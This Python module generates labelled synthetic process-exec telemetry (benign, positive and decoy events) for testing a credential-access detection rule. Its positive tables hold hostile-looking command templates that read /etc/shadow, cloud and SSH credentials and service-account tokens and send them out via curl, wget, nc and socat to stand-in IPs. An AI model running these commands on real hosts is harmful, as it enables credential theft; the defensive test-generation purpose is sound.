"""Deterministic process-exec scenarios shared by the ECS and raw-audit generators.

A scenario is what happened on a host (who ran which binary with which
arguments), independent of how a sensor writes it down.  Each scenario carries
the generator's own label: ``positive`` (planted to match the seed rule, with
the path slot and tool clause it was built for), ``decoy`` (a near miss, with
its kind) or ``benign``.  The label comes from construction, not from running
any matcher.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from typing import Any

import seedrule

R = random.Random

#: Tool clauses of the seed rule in the order positives cycle through them.
CLAUSES: tuple[str, ...] = ("name", "args", "executable")


@dataclass(slots=True)
class User:
    """A Linux account."""

    name: str
    uid: int
    group: str
    gid: int


@dataclass(slots=True)
class Exec:
    """One exec: the facts both generators render."""

    name: str
    executable: str
    args: list[str]
    cwd: str
    user: User
    login: User | None  # the audit (login) user, None when unset
    parent_name: str
    parent_executable: str
    parent_args: list[str]
    label: str = "benign"  # benign | positive | decoy
    slot: str = ""  # positive: the rule path slot planted
    clause: str = ""  # positive: the tool clause planted
    kind: str = ""  # decoy / special variant kind
    tags: list[str] = field(default_factory=list)


USERS: tuple[User, ...] = (
    User("root", 0, "root", 0),
    User("ubuntu", 1000, "ubuntu", 1000),
    User("alice", 1001, "alice", 1001),
    User("bob", 1002, "bob", 1002),
    User("jenkins", 113, "jenkins", 118),
    User("www-data", 33, "www-data", 33),
    User("nobody", 65534, "nogroup", 65534),
    User("józef", 1003, "józef", 1003),
)
ROOT = USERS[0]
_USER_WEIGHTS = (55, 12, 8, 6, 8, 6, 3, 2)
_LOGIN_USERS = (USERS[1], USERS[2], USERS[3], USERS[7])

HOMES: tuple[str, ...] = (
    "/root",
    "/home/ubuntu",
    "/home/alice",
    "/home/bob",
    "/var/lib/jenkins",
    "/home/józef",
    "/home/jo smith",
)

PARENTS: tuple[tuple[str, str, list[str]], ...] = (
    ("bash", "/usr/bin/bash", ["-bash"]),
    ("bash", "/usr/bin/bash", ["/bin/bash", "/opt/scripts/healthcheck.sh"]),
    ("sh", "/usr/bin/dash", ["/bin/sh", "-c", "/usr/local/bin/entrypoint.sh"]),
    ("containerd-shim", "/usr/bin/containerd-shim-runc-v2", ["/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io", "-id", "4f1c9e0b2a7d", "-address", "/run/containerd/containerd.sock"]),
    ("cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f", "-P"]),
    ("sshd", "/usr/sbin/sshd", ["sshd: ubuntu@pts/0"]),
    ("python3", "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/ansible-playbook", "site.yml"]),
    ("kubelet", "/usr/bin/kubelet", ["/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml", "--container-runtime-endpoint=unix:///run/containerd/containerd.sock"]),
    ("systemd", "/usr/lib/systemd/systemd", ["/sbin/init"]),
    ("node", "/usr/local/bin/node", ["node", "/srv/app/worker.js"]),
)
_PARENT_WEIGHTS = (30, 10, 10, 14, 8, 8, 5, 6, 6, 3)

CWDS: tuple[str, ...] = ("/root", "/", "/home/ubuntu", "/srv/app", "/var/lib/jenkins/workspace/build", "/tmp", "/opt/app")

BENIGN_FILES: tuple[str, ...] = (
    "/etc/hosts", "/etc/resolv.conf", "/proc/meminfo", "/etc/os-release", "/var/log/syslog",
    "/etc/passwd", "/etc/group", "/proc/cpuinfo", "/sys/fs/cgroup/memory.max",
    "/etc/kubernetes/kubelet.conf", "/var/lib/kubelet/config.yaml", "/etc/ssh/sshd_config",
    "/root/.bashrc", "/home/ubuntu/.profile", "/etc/kubernetes/manifests/kube-apiserver.yaml",
    "/var/log/nginx/access.log", "/etc/nginx/nginx.conf", "/proc/self/status", "/etc/fstab",
    "/var/log/auth.log", "/etc/crontab", "/srv/app/config/settings.yaml", "/etc/machine-id",
)
LOGS: tuple[str, ...] = ("/var/log/syslog", "/var/log/nginx/error.log", "/var/log/kern.log", "/var/log/app/app.log")
NAMESPACES: tuple[str, ...] = ("default", "kube-system", "payments", "monitoring", "ingress-nginx")
WORDS: tuple[str, ...] = ("error", "timeout", "OOMKilled", "deploy", "health", "ready", "GET /api", "café", "naïve")


def _hexid(rng: R, n: int = 12) -> str:
    return format(rng.getrandbits(4 * n), f"0{n}x")


BenignFn = Callable[[R], tuple[str, str, list[str]]]


def _b_ls(r: R) -> tuple[str, str, list[str]]:
    return "ls", "/usr/bin/ls", ["ls", r.choice(("-la", "-1", "-lh")), r.choice(CWDS)]


def _b_cat(r: R) -> tuple[str, str, list[str]]:
    return "cat", "/usr/bin/cat", ["cat", r.choice(BENIGN_FILES)]


def _b_grep(r: R) -> tuple[str, str, list[str]]:
    return "grep", "/usr/bin/grep", ["grep", "-E", r.choice(WORDS), r.choice(LOGS)]


def _b_ps(r: R) -> tuple[str, str, list[str]]:
    return "ps", "/usr/bin/ps", ["ps", r.choice(("aux", "-ef", "-eo", "-p"))]


def _b_systemctl(r: R) -> tuple[str, str, list[str]]:
    return "systemctl", "/usr/bin/systemctl", ["systemctl", "is-active", r.choice(("kubelet", "containerd", "nginx", "sshd"))]


def _b_kubectl(r: R) -> tuple[str, str, list[str]]:
    return "kubectl", "/usr/local/bin/kubectl", ["kubectl", "get", r.choice(("pods", "nodes", "svc", "deploy")), "-n", r.choice(NAMESPACES), "-o", "json"]


def _b_python(r: R) -> tuple[str, str, list[str]]:
    return "python3", "/usr/bin/python3.11", ["python3", r.choice(("/opt/app/manage.py", "/usr/local/bin/exporter.py", "-m")), r.choice(("migrate", "collect", "http.server", "pip"))]


def _b_node(r: R) -> tuple[str, str, list[str]]:
    return "node", "/usr/local/bin/node", ["node", r.choice(("/srv/app/server.js", "/srv/app/worker.js", "--version"))]


def _b_bash_c(r: R) -> tuple[str, str, list[str]]:
    return "bash", "/usr/bin/bash", ["bash", "-c", r.choice(("echo hello world", "test -f /run/app.pid && kill -0 $(cat /run/app.pid)", "df -h / | tail -1", "uptime > /tmp/up.txt 2>&1 & wait"))]


def _b_sh_c(r: R) -> tuple[str, str, list[str]]:
    return "sh", "/usr/bin/dash", ["/bin/sh", "-c", r.choice(("exec /usr/local/bin/entrypoint.sh", "run-parts --report /etc/cron.hourly", "[ -x /usr/sbin/logrotate ] || exit 0"))]


def _b_curl(r: R) -> tuple[str, str, list[str]]:
    return "curl", "/usr/bin/curl", ["curl", "-fsS", "-m", "2", f"http://10.0.{r.randrange(256)}.{r.randrange(256)}:10248/healthz"]


def _b_runc(r: R) -> tuple[str, str, list[str]]:
    cid = _hexid(r, 16)
    return "runc", "/usr/bin/runc", ["runc", "--root", "/run/containerd/runc/k8s.io", "--log", f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{cid}/log.json", "--log-format", "json", "state", cid]


def _b_iptables(r: R) -> tuple[str, str, list[str]]:
    return "iptables", "/usr/sbin/iptables", ["iptables", "-w", "5", "-t", r.choice(("nat", "filter", "mangle")), "-S"]


def _b_git(r: R) -> tuple[str, str, list[str]]:
    return "git", "/usr/bin/git", ["git", r.choice(("status", "fetch", "rev-parse")), r.choice(("--porcelain", "origin", "HEAD"))]


def _b_sed(r: R) -> tuple[str, str, list[str]]:
    return "sed", "/usr/bin/sed", ["sed", "-i", "s/replicas: 1/replicas: 3/", "/srv/app/deploy.yaml"]


def _b_awk(r: R) -> tuple[str, str, list[str]]:
    return "awk", "/usr/bin/awk", ["awk", "{print $1}", r.choice(("/proc/loadavg", "/proc/uptime"))]


def _b_tar(r: R) -> tuple[str, str, list[str]]:
    return "tar", "/usr/bin/tar", ["tar", "czf", f"/var/backups/etc-{r.randrange(10000)}.tgz", r.choice(("/etc/nginx", "/srv/app/config"))]


def _b_find(r: R) -> tuple[str, str, list[str]]:
    return "find", "/usr/bin/find", ["find", "/var/log", "-name", "*.gz", "-mtime", "+7", "-delete"]


def _b_small(r: R) -> tuple[str, str, list[str]]:
    name, exe, args = r.choice(_SMALL)
    return name, exe, list(args)


_SMALL: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("date", "/usr/bin/date", ("date", "+%s")),
    ("hostname", "/usr/bin/hostname", ("hostname",)),
    ("uname", "/usr/bin/uname", ("uname", "-r")),
    ("id", "/usr/bin/id", ("id", "-u")),
    ("sleep", "/usr/bin/sleep", ("sleep", "5")),
    ("ip", "/usr/sbin/ip", ("ip", "-j", "addr", "show")),
    ("journalctl", "/usr/bin/journalctl", ("journalctl", "-u", "kubelet", "--since", "-5m", "--no-pager")),
    ("logrotate", "/usr/sbin/logrotate", ("/usr/sbin/logrotate", "/etc/logrotate.conf")),
    ("dpkg", "/usr/bin/dpkg", ("dpkg", "-l")),
    ("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ("java", "-Xmx512m", "-jar", "/opt/app/app.jar")),
    ("nginx", "/usr/sbin/nginx", ("nginx", "-t")),
    ("env", "/usr/bin/env", ("/usr/bin/env", "python3", "/usr/local/bin/exporter.py")),
    ("mount", "/usr/bin/mount", ("mount",)),
    ("df", "/usr/bin/df", ("df", "-h")),
    ("stat", "/usr/bin/stat", ("stat", "-c", "%Y", "/run/app.pid")),
    ("deploy.sh", "/usr/bin/bash", ("/bin/bash", "/home/ubuntu/bin/deploy.sh", "--dry-run")),
    ("collect", "/home/alice/tools/collect", ("/home/alice/tools/collect", "--interval", "30")),
    ("echo", "/usr/bin/echo", ("echo", "Grüße aus München")),
    ("touch", "/usr/bin/touch", ("touch", "/home/józef/Données/rapport final.pdf")),
)

_BENIGN: tuple[BenignFn, ...] = (
    _b_ls, _b_cat, _b_grep, _b_ps, _b_systemctl, _b_kubectl, _b_python, _b_node, _b_bash_c,
    _b_sh_c, _b_curl, _b_runc, _b_iptables, _b_git, _b_sed, _b_awk, _b_tar, _b_find, _b_small,
)
_BENIGN_WEIGHTS = (8, 9, 7, 5, 6, 6, 5, 3, 5, 5, 6, 3, 4, 3, 2, 3, 2, 2, 22)
_BENIGN_CUM: list[int] = []
_acc = 0
for _w in _BENIGN_WEIGHTS:
    _acc += _w
    _BENIGN_CUM.append(_acc)


# ---------------------------------------------------------------------------
# Positives


def cred_arg(r: R, slot: str) -> str:
    """A concrete argument value matching ``slot`` (one of ``seedrule.PATH_SLOTS``)."""
    if not slot.startswith("*"):
        return slot
    if slot.endswith("*.json"):
        middle = slot[1:-6]
        return r.choice(HOMES) + middle + _hexid(r, 40) + ".json"
    suffix = slot[1:]
    if suffix == "/root/.ssh/id_ed25519":
        return r.choice(("", "", "/host", "/mnt/snapshot", "if=")) + suffix
    prefix = r.choice((*HOMES, "~", "/mnt/host/root", "if=/root", "--kubeconfig=/root", "/"))
    if prefix == "/":
        prefix = ""  # "*" may match the empty string: "/.kube/config" is a match
    return prefix + suffix


_NAME_TOOLS: tuple[tuple[str, str, tuple[str, ...], tuple[str, ...]], ...] = (
    # name, executable, args before the path, args after the path
    ("cat", "/usr/bin/cat", ("cat",), ()),
    ("head", "/usr/bin/head", ("head", "-n", "20"), ()),
    ("tail", "/usr/bin/tail", ("tail", "-n", "+1"), ()),
    ("more", "/usr/bin/more", ("more",), ()),
    ("less", "/usr/bin/less", ("less",), ()),
    ("grep", "/usr/bin/grep", ("grep", "-v", "^#"), ()),
    ("sed", "/usr/bin/sed", ("sed", "-n", "p"), ()),
    ("awk", "/usr/bin/awk", ("awk", "{print}"), ()),
    ("find", "/usr/bin/find", ("find",), ("-maxdepth", "0")),
    ("ls", "/usr/bin/ls", ("ls", "-la"), ()),
    ("whereis", "/usr/bin/whereis", ("whereis",), ()),
    ("cp", "/usr/bin/cp", ("cp",), ("/tmp/.c",)),
    ("mv", "/usr/bin/mv", ("mv",), ("/dev/shm/x",)),
    ("ln", "/usr/bin/ln", ("ln", "-s"), ("/tmp/l",)),
    ("curl", "/usr/bin/curl", ("curl", "-s", "--upload-file"), ("https://203.0.113.9/u",)),
    ("wget", "/usr/bin/wget", ("wget", "-q", "--post-file"), ("http://198.51.100.4/",)),
    ("scp", "/usr/bin/scp", ("scp",), ("ops@10.9.8.7:/tmp/",)),
    ("rsync", "/usr/bin/rsync", ("rsync", "-a"), ("backup:/srv/",)),
    ("tar", "/usr/bin/tar", ("tar", "czf", "/tmp/b.tgz"), ()),
    ("zip", "/usr/bin/zip", ("zip", "-q", "/tmp/b.zip"), ()),
    ("gzip", "/usr/bin/gzip", ("gzip", "-c"), ()),
    ("base64", "/usr/bin/base64", ("base64", "-w0"), ()),
    ("xxd", "/usr/bin/xxd", ("xxd", "-p"), ()),
    ("od", "/usr/bin/od", ("od", "-c"), ()),
    ("dd", "/usr/bin/dd", ("dd", "status=none", "bs=4096"), ()),
    ("tee", "/usr/bin/tee", ("tee", "-a"), ()),
    ("strings", "/usr/bin/strings", ("strings",), ()),
    ("xargs", "/usr/bin/xargs", ("xargs", "-a"), ("echo",)),
    ("jq", "/usr/bin/jq", ("jq", "-r", "."), ()),
    ("yq", "/usr/local/bin/yq", ("yq", "e", "."), ()),
    ("openssl", "/usr/bin/openssl", ("openssl", "x509", "-noout", "-text", "-in"), ()),
    ("ssh", "/usr/bin/ssh", ("ssh", "-i"), ("ops@10.0.0.12",)),
    ("sftp", "/usr/bin/sftp", ("sftp", "-i"), ("ops@10.0.0.12",)),
    ("nc", "/usr/bin/nc", ("nc", "-q0", "198.51.100.7", "4444"), ()),
    ("ncat", "/usr/bin/ncat", ("ncat", "--send-only", "198.51.100.7", "4444"), ()),
    ("netcat", "/usr/bin/netcat", ("netcat", "198.51.100.7", "4444"), ()),
    ("socat", "/usr/bin/socat", ("socat", "-u"), ("TCP:198.51.100.7:4444",)),
    ("busybox", "/usr/bin/busybox", ("busybox", "cat"), ()),
    ("python3", "/usr/bin/python3.11", ("python3", "-c", "import sys; print(open(sys.argv[1]).read())"), ()),
    ("python2.7", "/usr/bin/python2.7", ("python2.7", "/opt/tools/dump.py"), ()),
    ("perl", "/usr/bin/perl", ("perl", "-ne", "print"), ()),
    ("ruby", "/usr/bin/ruby3.1", ("ruby", "-e", "puts File.read(ARGV[0])"), ()),
    ("php8.1", "/usr/bin/php8.1", ("php", "-r", "echo file_get_contents($argv[1]);"), ()),
    ("lua5.4", "/usr/bin/lua5.4", ("lua5.4", "/opt/tools/read.lua"), ()),
    ("node", "/usr/local/bin/node", ("node", "-e", "process.stdout.write(require('fs').readFileSync(process.argv[1]))"), ()),
    (".cache-helper", "/usr/local/lib/.cache-helper", ("/usr/local/lib/.cache-helper",), ()),
)
_WRAPPERS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("sudo", "/usr/bin/sudo", ("sudo",)),
    ("sudo", "/usr/bin/sudo", ("sudo", "-u", "root")),
    ("env", "/usr/bin/env", ("env", "-i")),
    ("timeout", "/usr/bin/timeout", ("timeout", "5")),
    ("nice", "/usr/bin/nice", ("nice", "-n", "10")),
    ("nohup", "/usr/bin/nohup", ("nohup",)),
    ("stdbuf", "/usr/bin/stdbuf", ("stdbuf", "-oL")),
    ("kubectl", "/usr/local/bin/kubectl", ("kubectl", "exec", "-n", "payments", "api-7d9f", "--")),
    ("ionice", "/usr/bin/ionice", ("ionice", "-c3")),
    ("setsid", "/usr/bin/setsid", ("setsid",)),
)
_EXEC_DROPS: tuple[str, ...] = (
    "/tmp/updater", "/tmp/.X11-unix/kworker", "/var/tmp/sysinfo", "/dev/shm/agent",
    "/home/alice/tools/collect", "/home/ubuntu/go/bin/credsync", "/run/user/1000/app/helper",
    "/tmp/build-7f3a/exfil", "/dev/shm/.s/svc",
)


def make_positive(r: R, k: int) -> Exec:
    """Positive number ``k``: cycles through every path slot and every tool clause."""
    slots = seedrule.PATH_SLOTS
    slot = slots[k % len(slots)]
    clause = CLAUSES[(k // len(slots)) % len(CLAUSES)]
    path = cred_arg(r, slot)
    user = ROOT if r.random() < 0.7 else r.choice(USERS[1:5])
    if clause == "name":
        # Half cycle through every tool in order (so all appear), half are random.
        cycle = k // (len(slots) * len(CLAUSES))
        idx = cycle % len(_NAME_TOOLS) if r.random() < 0.5 else r.randrange(len(_NAME_TOOLS))
        name, exe, pre, post = _NAME_TOOLS[idx]
        args = [*pre, path, *post]
    elif clause == "args":
        name, exe, wpre = r.choice(_WRAPPERS)
        tool = r.choice(sorted(seedrule.ARG_TOOLS))
        args = [*wpre, tool, path]
    else:
        exe = r.choice(_EXEC_DROPS)
        name = exe.rsplit("/", 1)[1]
        args = [r.choice((exe, "./" + name)), r.choice(("--file", "-f", "--src")), path]
    # Where the path sits in args varies: last, or first-after-tool with a trailing arg.
    if r.random() < 0.2 and clause != "executable":
        args.append(r.choice(("/dev/null", "-", "--")))
    ex = _base(r, name, exe, args, user)
    ex.label, ex.slot, ex.clause = "positive", slot, clause
    return ex


# ---------------------------------------------------------------------------
# Decoys: each must NOT match the seed rule.

DECOY_KINDS: tuple[str, ...] = (
    "credentials_bak", "aws_config", "id_rsa_pub", "run_secrets_no_var", "sh_c_string",
    "upper_path", "upper_tool", "no_tool", "ed25519_not_root", "prefixed_exact",
    "extended_suffix", "relative_path", "wrapper_fullpath_tool", "aws_cache_not_json",
    "wrong_action", "wrong_os",
)


def make_decoy(r: R, k: int, kinds: tuple[str, ...] = DECOY_KINDS) -> Exec:
    """Decoy number ``k``: cycles through ``kinds``."""
    kind = kinds[k % len(kinds)]

    # The first decoy of each kind uses the canonical variant (first option), so
    # even a small file holds e.g. "credentials.bak" and "/ETC/SHADOW" verbatim.
    def pick(options: Sequence[Any]) -> Any:
        return options[0] if k < len(kinds) else r.choice(options)

    home = pick(HOMES[:5])
    name, exe = "cat", "/usr/bin/cat"
    args: list[str]
    if kind == "credentials_bak":
        args = ["cat", home + "/.aws/credentials" + pick((".bak", ".old", "~", ".swp"))]
    elif kind == "aws_config":
        args = ["cat", home + "/.aws/config"]
    elif kind == "id_rsa_pub":
        args = ["cat", home + "/.ssh/id_rsa.pub"]
    elif kind == "run_secrets_no_var":
        args = ["cat", pick(("/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/ca.crt", "/run/secrets/eks.amazonaws.com/serviceaccount/token"))]
    elif kind == "sh_c_string":
        name, exe = pick((("sh", "/usr/bin/dash"), ("bash", "/usr/bin/bash")))
        args = [name, "-c", pick(("cat /etc/shadow", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", f"cat {home}/.aws/credentials | base64"))]
    elif kind == "upper_path":
        args = ["cat", pick(("/ETC/SHADOW", "/Etc/Shadow", home.upper() + "/.AWS/CREDENTIALS", "/VAR/RUN/SECRETS/KUBERNETES.IO/SERVICEACCOUNT/TOKEN"))]
    elif kind == "upper_tool":
        name, exe = pick((("CAT", "/usr/bin/CAT"), ("Cat", "/usr/local/bin/Cat"), ("GREP", "/usr/bin/GREP")))
        args = [name, "/etc/shadow"]
    elif kind == "no_tool":
        name, exe, args = pick((
            ("vim", "/usr/bin/vim", ["vim", "/etc/shadow"]),
            ("kubectl", "/usr/local/bin/kubectl", ["kubectl", "--kubeconfig", "/root/.kube/config", "get", "pods"]),
            ("aws", "/usr/local/bin/aws", ["aws", "s3", "ls", "--profile", "default", "/root/.aws/credentials"]),
            ("chmod", "/usr/bin/chmod", ["chmod", "600", home + "/.ssh/id_rsa"]),
            ("vault", "/usr/bin/vault", ["vault", "login", "-method=kubernetes", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
        ))
    elif kind == "ed25519_not_root":
        args = ["cat", pick(("/home/bob/.ssh/id_ed25519", "/home/ubuntu/.ssh/id_ed25519", "/var/lib/jenkins/.ssh/id_ed25519"))]
    elif kind == "prefixed_exact":
        name, exe = "curl", "/usr/bin/curl"
        args = ["curl", "-H", "@/var/run/secrets/kubernetes.io/serviceaccount/token", pick(("--token-file=/etc/kubernetes/admin.conf", "https://10.96.0.1/api"))]
    elif kind == "extended_suffix":
        args = ["cat", pick(("/etc/shadow-", "/etc/gshadow", "/etc/shadow.bak", home + "/.kube/config.lock", home + "/.docker/config.json.bak", home + "/.ssh/id_rsa.old"))]
    elif kind == "relative_path":
        args = ["cat", pick((".ssh/id_rsa", ".kube/config", ".aws/credentials", "etc/shadow"))]
    elif kind == "wrapper_fullpath_tool":
        name, exe = "sudo", "/usr/bin/sudo"
        args = ["sudo", pick(("/usr/bin/cat", "/bin/cat", "/usr/bin/tail")), "/etc/shadow"]
    elif kind == "aws_cache_not_json":
        args = ["cat", home + pick(("/.aws/cli/cache/", "/.aws/sso/cache/")) + _hexid(r, 40) + pick((".json.tmp", ".jsonl", ".yaml"))]
    else:  # wrong_action / wrong_os: a real positive body, but the event is not an exec on linux
        args = ["cat", "/etc/shadow" if kind == "wrong_action" else "/Users/alice/.aws/credentials"]
    ex = _base(r, name, exe, args, ROOT if r.random() < 0.6 else r.choice(USERS[1:5]))
    ex.label, ex.kind = "decoy", kind
    return ex


def _base(r: R, name: str, exe: str, args: list[str], user: User) -> Exec:
    pi = r.choices(range(len(PARENTS)), _PARENT_WEIGHTS)[0]
    pname, pexe, pargs = PARENTS[pi]
    login = None if pi in (3, 4, 7, 8) else r.choice(_LOGIN_USERS)
    return Exec(name, exe, args, r.choice(CWDS), user, login, pname, pexe, pargs)


def make_benign(r: R) -> Exec:
    """A background exec that never matches the seed rule."""
    x = r.random() * _acc
    i = 0
    while _BENIGN_CUM[i] <= x:
        i += 1
    name, exe, args = _BENIGN[i](r)
    u = r.random() * 100
    acc = 0
    user = USERS[0]
    for usr, w in zip(USERS, _USER_WEIGHTS, strict=True):
        acc += w
        if u < acc:
            user = usr
            break
    return _base(r, name, exe, args, user)


class ScenarioStream:
    """Draws scenarios with a fixed positive and decoy rate, deterministically."""

    def __init__(
        self,
        rng: R,
        positive_rate: float,
        decoy_rate: float,
        decoy_kinds: tuple[str, ...] = DECOY_KINDS,
    ) -> None:
        self.rng = rng
        self.decoy_kinds = decoy_kinds
        self.positive_rate = positive_rate
        self.decoy_rate = decoy_rate
        self.n_pos = 0
        self.n_decoy = 0

    def next(self) -> Exec:
        """The next scenario."""
        x = self.rng.random()
        if x < self.positive_rate:
            ex = make_positive(self.rng, self.n_pos)
            self.n_pos += 1
            return ex
        if x < self.positive_rate + self.decoy_rate:
            ex = make_decoy(self.rng, self.n_decoy, self.decoy_kinds)
            self.n_decoy += 1
            return ex
        return make_benign(self.rng)
